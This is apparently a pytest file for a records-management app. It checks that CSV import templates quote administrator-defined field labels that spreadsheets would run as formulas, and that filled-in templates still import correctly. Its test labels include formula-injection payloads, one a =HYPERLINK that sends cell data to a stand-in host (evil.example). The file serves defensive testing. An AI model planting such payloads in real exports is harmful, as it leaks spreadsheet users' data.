"""The legacy import's template CSV (security review: formula injection): an organisation's administrator names its
own metadata fields, and the template heads a column with each label, so a label a spreadsheet would run
("=HYPERLINK(…)", "@SUM(…)") reaches the archivist's spreadsheet program quoted, as every other export's cells do;
the template filled in and placed for import is still read, each quoted header naming its field."""

from __future__ import annotations

import csv
import io
import json

import pytest
from erms_browser import Browser, run_background_jobs
from sqlalchemy import select

from erms.models import Document, SupplementaryField
from tests.intake.test_legacy_import import scan

LABELS = ['=HYPERLINK("http://evil.example/?x="&A1,"Mở")', "+84 máy lẻ", "-Mã cũ", "@SUM(A1)"]
SOURCE = "scans/ho-so.csv"


@pytest.fixture
def intake_dir(tmp_path, world):
    """The organisation's own folder of INTAKE_DIR, where the administrator copies its legacy folders."""
    return tmp_path / "intake" / world.org.code


@pytest.fixture
def app(make_app, intake_dir):
    return make_app(INTAKE_DIR=str(intake_dir.parent))


@pytest.fixture
def fields(browsers, world):
    """The administrator adds a document field under each label, on its page."""
    admin, url = browsers("admin"), f"/admin/organisations/{world.org.id}/fields"
    for label in LABELS:
        assert admin.post(url, {"label": label, "applies_to": "document", "data_type": "text"}).status_code == 302


def template(archivist: Browser) -> list[list[str]]:
    """The lines of the template the archivist downloads."""
    text = archivist.get("/archive/intake/template.csv").get_data(as_text=True)
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_field_label_a_spreadsheet_would_run_heads_its_column_quoted(fields, browsers):
    lines = template(browsers("archivist"))
    assert lines[0][-len(LABELS) :] == ["'" + label for label in LABELS]
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)


def test_the_template_filled_in_imports_each_value_under_its_quoted_field(fields, browsers, intake_dir, session):
    archivist = browsers("archivist")
    header, example = template(archivist)
    folder = intake_dir / "scans"
    (folder / example[0]).parent.mkdir(parents=True)
    (folder / example[0]).write_bytes(scan(1))
    values = [f"giá trị {number}" for number in range(len(LABELS))]
    lines = io.StringIO()
    csv.writer(lines).writerows([header, example + values])
    (folder / "ho-so.csv").write_text(lines.getvalue(), encoding="utf-8")

    checked = archivist.post("/archive/intake/check", {"source": SOURCE})
    assert checked.status_code == 200
    assert "Lần nhập sẽ tạo 1 hồ sơ với 1 văn bản" in checked.get_data(as_text=True)
    assert archivist.post("/archive/intake/start", {"source": SOURCE}).status_code == 302
    run_background_jobs(archivist.client.application)
    names = {field.label: field.name for field in session.scalars(select(SupplementaryField))}
    (document,) = session.scalars(select(Document))
    assert json.loads(document.supplementary) == dict(zip((names[label] for label in LABELS), values, strict=True))
